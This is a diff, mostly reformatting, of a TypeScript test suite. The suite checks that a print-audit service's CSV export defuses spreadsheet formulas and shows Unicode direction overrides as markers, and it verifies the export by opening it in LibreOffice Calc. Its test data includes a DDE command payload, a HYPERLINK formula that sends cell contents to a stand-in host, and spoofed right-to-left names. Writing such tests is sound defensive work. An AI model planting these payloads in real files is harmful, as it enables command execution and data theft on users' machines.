@@ -21,7 +21,10 @@ import { makeJob, printerIdFor } from "./rig/tenant";
 
 const soffice = "/usr/bin/soffice";
 const officeMissing = !existsSync(soffice);
-const skip = officeMissing && !process.env.CI ? `${soffice} is missing: apt-get install libreoffice-calc-nogui to open the CSV as a spreadsheet` : false;
+const skip =
+  officeMissing && !process.env.CI
+    ? `${soffice} is missing: apt-get install libreoffice-calc-nogui to open the CSV as a spreadsheet`
+    : false;
 
 /** The document names and texts the issue's attacks used, and their relatives. */
 const payloads = [
@@ -41,8 +44,36 @@ const payloads = [
 ];
 
 /** Cells built from the pieces that make formulas and split cells, for the whole-file check. */
-const cellPieces = [",", ";", "\t", "\r", "\n", "\r\n", '"', "'", " ", "\u00A0", "=", "+", "-", "@", "\uFF1D", "\uFF0B", "\uFF0D", "\uFF20", "1+1", "cmd|' /C calc'!A0", 'HYPERLINK("http://x?"&A1,"y")', "SUM(A1)", "x", "\u202E"];
-const generatedCells = fc.sample(fc.array(fc.constantFrom(...cellPieces), { minLength: 1, maxLength: 8 }).map((parts) => parts.join("")), { numRuns: 600, seed: 1611 });
+const cellPieces = [
+  ",",
+  ";",
+  "\t",
+  "\r",
+  "\n",
+  "\r\n",
+  '"',
+  "'",
+  " ",
+  "\u00A0",
+  "=",
+  "+",
+  "-",
+  "@",
+  "\uFF1D",
+  "\uFF0B",
+  "\uFF0D",
+  "\uFF20",
+  "1+1",
+  "cmd|' /C calc'!A0",
+  'HYPERLINK("http://x?"&A1,"y")',
+  "SUM(A1)",
+  "x",
+  "\u202E",
+];
+const generatedCells = fc.sample(
+  fc.array(fc.constantFrom(...cellPieces), { minLength: 1, maxLength: 8 }).map((parts) => parts.join("")),
+  { numRuns: 600, seed: 1611 },
+);
 
 /** What the export wrote before (the issue's attack): formulas defused at the cell's start only, quotes only for , " and line breaks. */
 function startOnlyCell(value: string): string {
@@ -66,7 +97,17 @@ async function openInCalc(dir: string, files: string[], separator: "," | ";"): P
   const filter = `Text - txt - csv (StarCalc):${separator.charCodeAt(0)},34,76,1`;
   await promisify(execFile)(
     soffice,
-    [`-env:UserInstallation=${pathToFileURL(join(dir, "profile")).href}`, "--headless", "--norestore", "--convert-to", "fods", `--infilter=${filter}`, "--outdir", out, ...files.map((f) => join(dir, f))],
+    [
+      `-env:UserInstallation=${pathToFileURL(join(dir, "profile")).href}`,
+      "--headless",
+      "--norestore",
+      "--convert-to",
+      "fods",
+      `--infilter=${filter}`,
+      "--outdir",
+      out,
+      ...files.map((f) => join(dir, f)),
+    ],
     { timeout: 120_000 },
   );
   return new Map(files.map((f) => [f, readFileSync(join(out, f.replace(/\.csv$/, ".fods")), "utf8")]));
@@ -77,8 +118,16 @@ function formulas(fods: string): string[] {
 }
 
 function cellTexts(fods: string): string[] {
-  const unescape = (s: string): string => s.replace(/&quot;/g, '"').replace(/&apos;/g, "'").replace(/&lt;/g, "<").replace(/&gt;/g, ">").replace(/&amp;/g, "&");
-  return [...fods.matchAll(/<table:table-cell[^>]*>([\s\S]*?)<\/table:table-cell>/g)].map((m) => unescape([...m[1]!.matchAll(/<text:p>([\s\S]*?)<\/text:p>/g)].map((p) => p[1]!.replace(/<[^>]+>/g, "")).join("\n")));
+  const unescape = (s: string): string =>
+    s
+      .replace(/&quot;/g, '"')
+      .replace(/&apos;/g, "'")
+      .replace(/&lt;/g, "<")
+      .replace(/&gt;/g, ">")
+      .replace(/&amp;/g, "&");
+  return [...fods.matchAll(/<table:table-cell[^>]*>([\s\S]*?)<\/table:table-cell>/g)].map((m) =>
+    unescape([...m[1]!.matchAll(/<text:p>([\s\S]*?)<\/text:p>/g)].map((p) => p[1]!.replace(/<[^>]+>/g, "")).join("\n")),
+  );
 }
 
 describe("CSV cells", () => {
@@ -96,7 +145,10 @@ describe("CSV cells", () => {
 
   test("invisible characters are shown as markers, never applied", () => {
     assert.equal(csvCell("Salary review \u202Efdp.exe"), "Salary review ⟨U+202E⟩fdp.exe");
-    assert.equal(visibleText("a\u200Bb\u2066c\u2069\u200E\u061C\u00AD\uFEFF\u0007"), "a⟨U+200B⟩b⟨U+2066⟩c⟨U+2069⟩⟨U+200E⟩⟨U+061C⟩⟨U+00AD⟩⟨U+FEFF⟩⟨U+0007⟩");
+    assert.equal(
+      visibleText("a\u200Bb\u2066c\u2069\u200E\u061C\u00AD\uFEFF\u0007"),
+      "a⟨U+200B⟩b⟨U+2066⟩c⟨U+2069⟩⟨U+200E⟩⟨U+061C⟩⟨U+00AD⟩⟨U+FEFF⟩⟨U+0007⟩",
+    );
     assert.equal(csvCell("\u202E=1+1"), "⟨U+202E⟩=1+1", "a marker first is no formula either");
     assert.equal(visibleText("Zoë 東京 🙂 ok\ttab"), "Zoë 東京 🙂 ok\ttab", "visible text is untouched");
   });
@@ -109,18 +161,32 @@ describe("the CSV export opened in LibreOffice Calc, split on , and on ;", { ski
   const figures = new Figures("csv-spreadsheet");
 
   before(async () => {
-    if (officeMissing) throw new Error(`${soffice} is missing; CI installs it in .ci/run (apt-get install libreoffice-calc-nogui).`);
+    if (officeMissing)
+      throw new Error(`${soffice} is missing; CI installs it in .ci/run (apt-get install libreoffice-calc-nogui).`);
     dir = mkdtempSync(join(tmpdir(), "csv-calc-"));
     rig = await startRig({ storage: true });
-    rig.sim.addPrinter({ id: printerId, displayName: "=HYPERLINK(\"http://x?\"&A1,\"printer\")" });
+    rig.sim.addPrinter({ id: printerId, displayName: '=HYPERLINK("http://x?"&A1,"printer")' });
     payloads.forEach((payload, i) => {
-      const job = makeJob(printerId, i + 1, { state: "completed", description: payload, createdDateTime: `2026-11-0${1 + (i % 9)}T10:00:00Z` });
+      const job = makeJob(printerId, i + 1, {
+        state: "completed",
+        description: payload,
+        createdDateTime: `2026-11-0${1 + (i % 9)}T10:00:00Z`,
+      });
       job.documents = [{ id: `d${i}`, displayName: payload, size: 5 }];
-      job.createdBy = { id: `u${i}`, userPrincipalName: `-${i}+1@contoso.com`, displayName: i === 0 ? "Mallory \u202Emoc.osotnoc@htims.nhoj" : `@user${i}` };
+      job.createdBy = {
+        id: `u${i}`,
+        userPrincipalName: `-${i}+1@contoso.com`,
+        displayName: i === 0 ? "Mallory \u202Emoc.osotnoc@htims.nhoj" : `@user${i}`,
+      };
       rig.sim.addJob(printerId, job);
     });
     rig.configure({ AUDIT_PRINTER_IDS: printerId, AUDIT_TABLE_PREFIX: "csvcalc" });
-    await rig.host.startTriggers({ connectionString: rig.azurite!.connectionString, timers: false, visibilityTimeoutInMs: 0, pollingIntervalInMs: 20 });
+    await rig.host.startTriggers({
+      connectionString: rig.azurite!.connectionString,
+      timers: false,
+      visibilityTimeoutInMs: 0,
+      pollingIntervalInMs: 20,
+    });
     await rig.host.fireTimer("auditTimer");
     await rig.host.waitForQueuesIdle();
   });
@@ -135,7 +201,11 @@ describe("the CSV export opened in LibreOffice Calc, split on , and on ;", { ski
     const response = await fetch(`${rig.api}/audit/jobs?format=csv&printerId=${printerId}`);
     assert.equal(response.status, 200);
     const exported = await response.text();
-    assert.equal(exported.split("\r\n").filter((l) => l.startsWith(printerId)).length, payloads.length, "every hostile job is in the export");
+    assert.equal(
+      exported.split("\r\n").filter((l) => l.startsWith(printerId)).length,
+      payloads.length,
+      "every hostile job is in the export",
+    );
     const cells = [...payloads, ...generatedCells];
     writeFileSync(join(dir, "export.csv"), exported);
     writeFileSync(join(dir, "generated.csv"), csvOf(cells, csvCell));
@@ -146,24 +216,48 @@ describe("the CSV export opened in LibreOffice Calc, split on , and on ;", { ski
 
     figures.set("cellsChecked", cells.length);
     figures.set("splits", 2);
-    figures.set("formulaCells", [comma, semicolon].reduce((n, sheets) => n + formulas(sheets.get("export.csv")!).length + formulas(sheets.get("generated.csv")!).length, 0));
-    for (const [split, sheets] of [["comma", comma], ["semicolon", semicolon]] as const) {
+    figures.set(
+      "formulaCells",
+      [comma, semicolon].reduce(
+        (n, sheets) => n + formulas(sheets.get("export.csv")!).length + formulas(sheets.get("generated.csv")!).length,
+        0,
+      ),
+    );
+    for (const [split, sheets] of [
+      ["comma", comma],
+      ["semicolon", semicolon],
+    ] as const) {
       assert.deepEqual(formulas(sheets.get("export.csv")!), [], `the export split on ${split} has no formula cell`);
-      assert.deepEqual(formulas(sheets.get("generated.csv")!), [], `the generated cells split on ${split} have no formula cell`);
-      assert.ok(formulas(sheets.get("quoted-only.csv")!).length > 0, `the check finds formulas when nothing is defused (split on ${split})`);
+      assert.deepEqual(
+        formulas(sheets.get("generated.csv")!),
+        [],
+        `the generated cells split on ${split} have no formula cell`,
+      );
+      assert.ok(
+        formulas(sheets.get("quoted-only.csv")!).length > 0,
+        `the check finds formulas when nothing is defused (split on ${split})`,
+      );
     }
     assert.ok(
       formulas(semicolon.get("start-only.csv")!).some((f) => /cmd\|/i.test(f)),
       "the issue's attack: the old writer's CSV split on ; runs =cmd|...",
     );
     const texts = cellTexts(comma.get("export.csv")!);
-    assert.ok(texts.includes("report;'=cmd|' /C calc'!A0;x"), "split on , the name stays one text cell, the formula defused");
-    assert.ok(texts.includes("'=HYPERLINK(\"http://x?\"&A1,\"y\")") || texts.includes('=HYPERLINK("http://x?"&A1,"y")'), "the HYPERLINK name is text");
+    assert.ok(
+      texts.includes("report;'=cmd|' /C calc'!A0;x"),
+      "split on , the name stays one text cell, the formula defused",
+    );
+    assert.ok(
+      texts.includes('\'=HYPERLINK("http://x?"&A1,"y")') || texts.includes('=HYPERLINK("http://x?"&A1,"y")'),
+      "the HYPERLINK name is text",
+    );
     assert.ok(texts.includes("Mallory ⟨U+202E⟩moc.osotnoc@htims.nhoj"), "the direction override shows as a marker");
   });
 
   test("the JSON API keeps the recorded value as it was", async () => {
-    const body = (await (await fetch(`${rig.api}/audit/jobs?printerId=${printerId}&top=100`)).json()) as { value: Record<string, unknown>[] };
+    const body = (await (await fetch(`${rig.api}/audit/jobs?printerId=${printerId}&top=100`)).json()) as {
+      value: Record<string, unknown>[];
+    };
     const first = body.value.find((r) => r.JobId === "1")!;
     assert.equal(first.CreatedByName, "Mallory \u202Emoc.osotnoc@htims.nhoj");
     assert.equal(first.DocumentNames, "report;=cmd|' /C calc'!A0;x");
